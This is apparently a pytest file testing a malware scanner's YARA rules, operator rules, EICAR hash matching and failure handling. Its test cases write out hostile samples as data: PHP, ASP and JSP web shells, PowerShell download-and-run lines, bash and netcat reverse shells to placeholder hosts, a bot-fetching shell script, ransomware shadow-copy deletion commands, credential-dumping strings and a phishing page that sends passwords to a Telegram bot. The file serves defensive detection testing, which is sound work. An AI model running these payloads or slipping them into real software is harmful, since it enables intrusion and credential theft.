"""Our YARA rules on both sides, an operator's rules, and known files."""

from __future__ import annotations

import base64
import sys
from pathlib import Path

import pytest
from signalkit.events import event, reader
from signalkit.files import EICAR, PROGRAM, Installation, upload

from tipstaff.cel import CelError
from tipstaff.signals.detectors.files import check_rules, yara
from tipstaff.signals.scanners import RuleFile, Scanners, read_rules
from tipstaff.vocab.errors import Invalid

ENCODED = base64.b64encode(b"x" * 300)


@pytest.mark.parametrize(
    ("rule", "data"),
    [
        ("PHP_Runs_What_Is_Sent", b"<?php @eval(base64_decode($_POST['x'])); ?>"),
        ("PHP_Runs_What_Is_Sent", b"<?php $_GET['a']($_GET['b']); ?>"),
        ("PHP_Hidden_Evaluation", b"<?php eval(gzinflate(base64_decode('" + ENCODED + b"'))); ?>"),
        ("ASP_Runs_What_Is_Sent", b'<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>'),
        ("JSP_Runs_What_Is_Sent", b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
        ("Script_Fetches_And_Runs", b"IEX (New-Object Net.WebClient).DownloadString('http://a.example/x.ps1')"),
        ("Script_Fetches_And_Runs", b"iwr https://a.example/x | iex"),
        ("PowerShell_Hidden_And_Encoded", b"powershell -w hidden -nop -enc " + ENCODED),
        ("Reverse_Shell", b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
        ("Reverse_Shell", b"nc 192.0.2.1 4444 -e /bin/sh"),
        (
            "Windows_Script_Drops_A_Program",
            b'Set s=CreateObject("WScript.Shell"):Set x=CreateObject("MSXML2.XMLHTTP")\r\n'
            b'Set a=CreateObject("ADODB.Stream")\r\n'
            b'a.SaveToFile "x.exe"\r\ns.Run "x.exe"',
        ),
        (
            "Shell_Fetches_A_Bot",
            b"#!/bin/sh\nwget http://192.0.2.1/b.mips\ncurl http://192.0.2.1/b.arm7\nwget http://192.0.2.1/b.x86\n"
            b"chmod 777 b.*\nrm -rf b.*\n",
        ),
        (
            "Ransom_Note",
            b"All your files have been encrypted! To get the decryption key pay 0.5 bitcoin. Do not rename the files.",
        ),
        ("Ransomware_Program", PROGRAM + b"vssadmin delete shadows /all\0bcdedit /set {default} recoveryenabled no\0"),
        (
            "Key_Logger_Script",
            b"from pynput import keyboard\nimport smtplib\nkeylog=''\ndef on_press(key): pass\n",
        ),
        ("Miner_Program", PROGRAM + b"stratum+tcp://\0donate-level\0RandomX\0"),
        ("Credential_Thief", PROGRAM + b"sekurlsa::logonpasswords\0privilege::debug\0"),
        ("Shortcut_Starts_A_Script", b"L\0\0\0\x01\x14\x02\0" + b"powershell -w hidden http://a.example".ljust(200)),
        (
            "Phishing_Kit_Page",
            b"<?php $m=$_POST['password'].$_SERVER['REMOTE_ADDR'];"
            b"file_get_contents('https://api.telegram.org/bot1/sendMessage?text='.$m);",
        ),
    ],
)
def test_our_rules_find_what_they_describe(rule: str, data: bytes) -> None:
    of = upload(data, "a.bin")
    assert rule in of.get("files.yara")  # type: ignore[operator]
    explain = of.catalogue.signals["files.malware"].explain
    assert explain is not None
    assert any(rule in finding.what and "file 1" in finding.what for finding in explain(of))


@pytest.mark.parametrize(
    "data",
    [
        b"<?php echo htmlspecialchars($_GET['name']); mail('me@a.example', 'hello', $_POST['text']); ?>",
        b"<?php if (password_verify($_POST['password'], $hash)) { $ok = 1; } log($_SERVER['REMOTE_ADDR']); ?>",
        b"Invoke-WebRequest https://a.example/data.csv -OutFile data.csv",
        b"#!/bin/sh\ncurl -fsSL https://a.example/install.sh -o install.sh\nchmod +x install.sh\n",
        b"How ransomware works: criminals encrypt files and ask for bitcoin. Keep backups.",
        b"nc -z localhost 5432 && echo up",
        b"import smtplib\nfrom pynput import mouse\n",
        PROGRAM,
        b"The EICAR test file is a line of 68 characters.",
    ],
)
def test_honest_neighbours_are_left_alone(data: bytes) -> None:
    assert upload(data).get("files.malware") == []


def test_the_programs_of_this_machine_are_no_malware() -> None:
    """The interpreter and a hundred of its own modules, whole."""
    files = [Path(sys.executable).resolve(), *sorted(Path(base64.__file__).parent.glob("*.py"))[:100]]
    flagged = {file.name: found for file in files if (found := upload(file.read_bytes()).get("files.malware"))}
    assert flagged == {}


def test_a_known_file_is_known_by_its_claimed_hash_alone() -> None:
    told = {"name": "x", "size": 68, "sha256": "275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F"}
    assert reader(event("file.upload", **told)).get("files.malware") == ["EICAR-Test-File"]
    assert upload(EICAR, "x", sha256="0" * 64).get("files.malware") == ["EICAR-Test-File"]


MINE = 'rule Acme_Secret { strings: $a = "acme-internal" condition: $a }'


def test_an_operators_rules_run_beside_ours(tmp_path: Path) -> None:
    (tmp_path / "mine.yar").write_text(MINE)
    installation = Installation(Scanners(read_rules([str(tmp_path)])))
    assert upload(b"an acme-internal file", installation=installation).get("files.malware") == ["mine:Acme_Secret"]
    assert upload(EICAR, installation=installation).get("files.yara") == ["EICAR_Test_File"]


def test_bad_rules_are_refused_at_load_with_line_and_reason(tmp_path: Path) -> None:
    bad = RuleFile("bad.yar", MINE.replace("$a }", "$b }"))
    with pytest.raises(Invalid, match=r"bad.yar:1:\d+[\s\S]*not declared") as refused:
        check_rules((RuleFile("good.yar", MINE), bad))
    assert [fault.path for fault in refused.value.faults] == ["bad.yar"]
    with pytest.raises(Invalid, match="cannot be read"):
        read_rules([str(tmp_path / "absent.yar"), str(tmp_path)])


def test_a_rule_that_takes_too_long_is_a_failure_not_a_clean_bill(monkeypatch: pytest.MonkeyPatch) -> None:
    class Slow:
        def __init__(self, _rules: object) -> None: ...
        def set_timeout(self, _seconds: int) -> None: ...
        def scan(self, _data: bytes) -> None:
            raise yara.yara_x.TimeoutError("timeout")

    monkeypatch.setattr(yara.yara_x, "Scanner", Slow)
    of = upload(b"anything")
    value = of.known("files.malware")
    assert isinstance(value, CelError)
    assert value.code == "signal-unavailable"


def test_without_the_package_the_signal_fails_as_a_value(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "yara_x", None)
    monkeypatch.setattr(yara, "yara_x", type(yara.yara_x)("yara_x"))
    yara._compiled.cache_clear()
    value = upload(b"anything").known("files.malware")
    assert isinstance(value, CelError)
    assert "yara_x" in value.message
    assert upload(EICAR).get("files.malware") == ["EICAR-Test-File"]
    monkeypatch.undo()
    yara._compiled.cache_clear()
